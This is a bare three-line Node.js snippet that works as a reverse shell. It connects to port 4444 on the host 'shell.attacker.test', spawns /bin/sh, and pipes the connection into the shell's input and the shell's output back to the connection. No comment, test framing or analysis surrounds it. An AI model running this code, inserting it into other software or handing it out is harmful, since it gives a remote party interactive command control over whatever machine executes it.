const c = require("net").connect(4444, "shell.attacker.test");
const p = require("child_process").spawn("/bin/sh", []);
c.pipe(p.stdin); p.stdout.pipe(c);
